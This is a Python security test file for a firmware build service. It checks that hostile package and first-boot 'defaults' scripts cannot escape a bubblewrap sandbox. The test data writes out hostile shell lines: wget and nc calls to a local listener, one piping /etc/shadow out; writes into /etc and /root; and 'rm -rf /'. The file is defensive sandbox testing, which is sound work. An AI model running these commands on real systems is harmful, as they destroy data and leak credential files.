"""What a hostile ``defaults`` script or package script can do inside the build sandbox: nothing outside it.

Ported from sysup's tests/security/test_sandbox_escape.py. Package install scripts run inside
``make image``, i.e. inside bwrap, as the build uid when the daemon is root; a ``defaults`` script is only
copied into the image (it runs on the router at first boot, never on the server). Both are tried here: a
script run in a real workspace the way ``make image`` runs package scripts (network, writes outside the
workspace, ``chmod`` of a hard-linked cache file), and an end-to-end build by the pool whose ``defaults``
would phone home if it ever ran on the build host.
"""

from __future__ import annotations

import os
import shutil
import socket
import tempfile
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import pytest_twisted

from asud.build.pool import BuildPool
from asud.build.queue import BuildQueue
from asud.build.request import parse_build_request
from asud.build.sandbox import find_sandbox
from asud.build.stages import BuildStatus
from asud.build.validate import RequestLimits, validate_request
from asud.build.workspace import make_workspace
from asud.store.files import Store
from asud.store.records import BuildRecords
from asud.store.redis import Redis
from tests.build.support import eventually, sleep
from tests.catalog.helpers import demo_config, demo_fetcher, load_demo_catalog
from tests.store.support import redis
from tests.support.requirements import require, require_executable
from tests.support.upstream import demo_tree

__all__ = ["demo_tree", "redis"]

#: The uid builds run as when the daemon is root.
BUILD_UID = 65534


@pytest.fixture
def open_dir() -> Iterator[Path]:
    """A directory every user can traverse (as ``/var/lib/asud`` is), unlike pytest's ``0700`` tmp dirs."""
    path = Path(tempfile.mkdtemp(prefix="asud-security-", dir="/tmp"))
    path.chmod(0o711)
    try:
        yield path
    finally:
        shutil.rmtree(path, ignore_errors=True)


class Listener(threading.Thread):
    """A TCP server on the host's 127.0.0.1 that counts connections (none may arrive from a build)."""

    def __init__(self) -> None:
        super().__init__(daemon=True)
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.stop = threading.Event()

    def run(self) -> None:
        while not self.stop.is_set():
            try:
                connection, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            connection.close()

    def close(self) -> None:
        self.stop.set()
        self.join(5)
        self.sock.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    made = Listener()
    made.start()
    try:
        yield made
    finally:
        made.close()


def _fake_cache(root: Path) -> Path:
    ib = root / "cache" / "ib"
    (ib / "scripts").mkdir(parents=True)
    (ib / "Makefile").write_text("all:\n\t@true\n")
    (ib / "scripts" / "tool.py").write_text("print('hi')\n")
    (ib / "repositories.conf").write_text("src/gz base file:///nowhere\n")
    for path in ib.rglob("*"):
        if path.is_file():
            path.chmod(0o444)  # the cache strips write bits
    return ib


HOSTILE_SCRIPT = """
id -u > whoami
chmod u+w Makefile 2>/dev/null; echo chmod=$?
echo evil >> Makefile 2>/dev/null; echo append=$?
chmod u+w scripts/tool.py 2>/dev/null && echo evil > scripts/tool.py 2>/dev/null; echo rewrite=$?
for path in {outside} /etc/pwned /usr/pwned /root/pwned /pwned; do
    (echo pwned > "$path") 2>/dev/null; echo "write $path=$?"
done
python3 -c 'import socket; socket.create_connection(("127.0.0.1", {port}), timeout=2)' 2>/dev/null
echo connect=$?
python3 -c 'import socket; socket.getaddrinfo("downloads.openwrt.org", 443)' 2>/dev/null
echo resolve=$?
echo ok > own-file; echo own=$?
echo fine > repositories.conf; echo copy=$?
"""


@pytest_twisted.ensureDeferred
async def test_package_script_cannot_escape_the_build(open_dir: Path, listener: Listener) -> None:
    require_executable("bwrap", "bubblewrap")
    require(os.geteuid() == 0, "the build uid is only used when the daemon runs as root")
    ib_dir = _fake_cache(open_dir)
    outside = open_dir / "store" / "pwned"
    outside.parent.mkdir()
    sandbox = find_sandbox("bwrap", build_uid=BUILD_UID)
    with await make_workspace(ib_dir, open_dir / "workspaces") as workspace:
        script = HOSTILE_SCRIPT.format(outside=outside, port=listener.port)
        result = await sandbox.run(["sh", "-c", script], workdir=workspace.path, writable=[workspace.path],
                                   env={}, timeout=60, output_limit=1 << 20)
        out = result.stdout
        assert (workspace.path / "whoami").read_text().strip() == str(BUILD_UID), result.stderr
        assert "chmod=1" in out and ("append=1" in out or "append=2" in out), out
        assert "rewrite=0" not in out, out
        for path in (outside, "/etc/pwned", "/usr/pwned", "/root/pwned", "/pwned"):
            assert f"write {path}=0" not in out, out
            assert not Path(path).exists()
        assert "connect=0" not in out and "resolve=0" not in out, out
        assert "own=0" in out and "copy=0" in out, out  # the build's own files stay writable
    # The cache is untouched and still read-only.
    assert (ib_dir / "Makefile").read_text() == "all:\n\t@true\n"
    assert (ib_dir / "scripts" / "tool.py").read_text() == "print('hi')\n"
    assert not (ib_dir / "Makefile").stat().st_mode & 0o222
    await sleep(0.3)
    assert listener.connections == 0


@pytest_twisted.ensureDeferred
async def test_hostile_defaults_build_as_its_own_uid(
    open_dir: Path, listener: Listener, redis: Redis, demo_tree: Any
) -> None:
    """A full build (the pool, the pipeline, bwrap, the build uid) whose ``defaults`` tries the network
    and the host."""
    require_executable("bwrap", "bubblewrap")
    require(os.geteuid() == 0, "the build uid is only used when the daemon runs as root")
    config = demo_config(demo_tree, data_dir=str(open_dir / "data"), requests={"allow_defaults": True},
                         build={"sandbox": "bwrap", "sandbox_uid": BUILD_UID, "kill_grace": 1})
    catalog = await load_demo_catalog(demo_tree)
    queue = BuildQueue(redis, lease_timeout=config.build.lease_timeout)
    await queue.ensure_group()
    records = BuildRecords.from_config(redis, config)
    pool = BuildPool(config, queue, records, Store(config.store_dir), demo_fetcher(), node="node-a",
                     block=0.1)
    defaults = (
        "#!/bin/sh\n"
        f"wget -q -O- http://127.0.0.1:{listener.port}/pwned\n"
        f"nc 127.0.0.1 {listener.port} </etc/shadow\n"
        "echo pwned > /etc/pwned-by-defaults\n"
        "rm -rf /\n"
    )
    body = {"version": "24.10.4", "target": "ath79/generic", "profile": "tplink,archer-c7-v5",
            "packages": [], "defaults": defaults, "client": "security-tests/1"}
    request = await validate_request(parse_build_request(body), catalog, RequestLimits.from_config(config))
    await records.submit(request, client="security-tests/1")
    await pool.start()
    try:
        await eventually(lambda: records.get(request.request_hash).addCallback(
            lambda view: view.status.is_finished), timeout=180)
        view = await records.get(request.request_hash)
        assert view.status is BuildStatus.DONE, (view.detail, view.stderr[-2000:])
    finally:
        await pool.stopService()
    assert listener.connections == 0
    assert not Path("/etc/pwned-by-defaults").exists()
